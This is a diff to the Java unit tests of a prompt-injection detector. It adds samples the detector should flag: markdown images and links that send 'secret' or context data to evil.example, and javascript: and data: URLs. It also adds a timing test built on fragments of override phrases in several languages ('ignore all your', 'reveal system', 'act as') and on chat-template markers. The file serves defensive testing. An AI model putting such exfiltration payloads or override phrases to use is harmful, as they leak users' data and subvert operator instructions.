@@ -37,7 +37,8 @@ class InjectionDetectorTests {
 
 	@ParameterizedTest
 	@ValueSource(strings = { "![x](https://evil.example/p?d=secret)", "[click](https://evil.example/{context})",
-			"[x](javascript:alert(1))", "<img alt=x src='https://evil.example/p.png'>" })
+			"[x](javascript:alert(1))", "<img alt=x src='https://evil.example/p.png'>", "[x](data:text/html,<b>)",
+			"![x](https://evil.example/plain) ![x]( https://evil.example/%41)", "[x](HTTP://evil.example/$a)" })
 	void marksWhatCarriesTextAway(String text) {
 		assertThat(kinds(text)).contains(InjectionMark.Kind.EXFILTRATION);
 	}
@@ -53,7 +54,8 @@ class InjectionDetectorTests {
 			"Follow the instructions of the manual.",
 			"A family \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 and \u2764\ufe0f",
 			"\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "hy\u00adphen", "![logo](https://example.org/logo.png)",
-			"[docs](https://example.org/a?b=c)", "The operating system: an overview",
+			"[docs](https://example.org/a?b=c)", "![a=b?](https://example.org/logo.png)", "[$a](https://example.org/)",
+			"<img alt=x> src=http://example.org", "The operating system: an overview",
 			"\ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc65\udb40\udc6e\udb40\udc67\udb40\udc7f" })
 	void leavesOrdinaryTextAlone(String text) {
 		assertThat(this.detector.marks(text)).isEmpty();
@@ -79,6 +81,20 @@ class InjectionDetectorTests {
 			.singleElement()
 			.asString()
 			.startsWith("not looked at");
+	}
+
+	/** The beginnings of each pattern, again and again. */
+	@ParameterizedTest
+	@Timeout(10)
+	@ValueSource(strings = { "ignore ", "ignore all your ", "ignore the system previous context", "print ", "reveal system ",
+			"act as ", "pretend to ", "do not ", "ignoriert ", "vergiss anweisun ", "ignore oublie ", "ignora ",
+			"ignora olvida instrucc ", "negeer ", "\u0437\u0430\u0431\u0443\u0434\u044c", "\u5ffd\u7565", "\u6307\u793a",
+			"![](http://?", "![](http://a{?=%$", "![", "![](", "![]( ", "[](http://{$", "[", "[](", "[](javascript:",
+			"[](data:text/html", "<img ", "<img src", "<img src=http://", "<|a", "[INST", "<system ", "</system ", "system ",
+			"> > > ", "\n> > > system " })
+	void readsBeginningsWithoutAnEndInTime(String beginning) {
+		String text = beginning.repeat(InjectionDetector.MOST_CHARACTERS / beginning.length());
+		assertThat(this.detector.marks(text)).isEmpty();
 	}
 
 	@Test
